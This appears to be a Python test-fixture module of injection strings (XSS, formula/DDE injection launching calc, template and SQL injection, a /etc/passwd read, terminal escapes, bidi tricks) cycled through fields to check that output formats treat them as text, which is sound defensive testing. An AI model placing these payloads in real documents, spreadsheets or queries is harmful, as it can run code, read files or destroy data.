"""Strings that would do something in one of our formats, were they not taken for text."""

from __future__ import annotations

from typing import Final

LINES: Final = (
    "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)> end",
    "[link](javascript:alert(1)) ![picture](https://evil.example/p.png) <https://evil.example/> end",
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u200bzero\u200d\ufeff\u00ad \U000e0041 end",
    "\x1b[2J\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\ \x9b31m \x00 \x08\x7f\x85\u2028 end",
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("https://evil.example?"&A1,"click")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %> {0} {name} {number} %s %(name)s {% raw %} end",
    '#eval("1+1") #read("/etc/passwd") #set page(width: 1pt) $1+1$ @label <label> *bold* `raw` \\u{41} // end',
    '\'; DROP TABLE datasets; -- " OR 1=1 \\" \\n end',
    "W" * 900,
    "مرحبا بالعالم (x) שלום עולם abc 123 ‏ end",
    "# Heading | a | b | ~~~ ``` --- *** > quote 1. one - two + three &lt;b&gt; &#60; end",
    '"]; click n0 "javascript:alert(1)"; n0["<b>"]; }} subgraph x; end %% --> |x| :::class style n0 fill:red',
    ']]> --> <!-- --> <?php ?> <!DOCTYPE x [<!ENTITY e "x">]> &e; \x0b\x0c end',
    "</text></svg><a xlink:href=\"javascript:alert(1)\"> ' onload='alert(1) end",
    "AT&T <w:instrText>DDEAUTO c:\\\\windows</w:instrText> { DDEAUTO calc } TOC \\o end",
)
"""For a line. Nearly all end in "end", so that it can be seen that nothing was cut off."""

PROSE: Final = (
    "first\n\n<script>alert(1)</script>\n\n# Heading\n\n- item\n\n| a | b |\n|---|---|\n\n```\ncode\n```\n\nend",
    "first\r\n\r\n=1+1\r\n\r\n<!-- \n\n --> \n\n[a]: https://evil.example 'x'\n\n    indented\n\n===\n\n\tend",
    "/Applications\n\nhttps://evil.example/a'onclick='x'/)](javascript:alert(1)) javascript:alert(1) end",
)
"""For text of several lines, besides those above."""

URLS: Final = (
    "https://evil.example/a'onclick='alert(1)'/)](javascript:alert(1))*_~$[x]",
    "http://user:pass@evil.example:80/#%7B7*7%7D=$(id)&lt;script&gt;&amp;exe.gpj",
    "https://evil.example/#eval(1)*/;alert(1)//--&quot;&#34;",
)
EMAILS: Final = (
    "=cmd|'/C'!A0@evil.example",
    "javascript:alert(1)//@x[y](z)'onclick='a",
    "*_#$\u200b{{7*7}}@evil.example",
)

_OF_KIND: Final = {"Line": LINES, "Prose": LINES + PROSE, "Url": URLS, "Email": EMAILS}
ROUNDS: Final = len(LINES)
"""After so many rounds, every field has held every line."""


def of(turn: int, number: int, kind: str) -> str:
    """The string for one field in one round."""
    found = _OF_KIND[kind]
    return found[(turn + number) % len(found)]
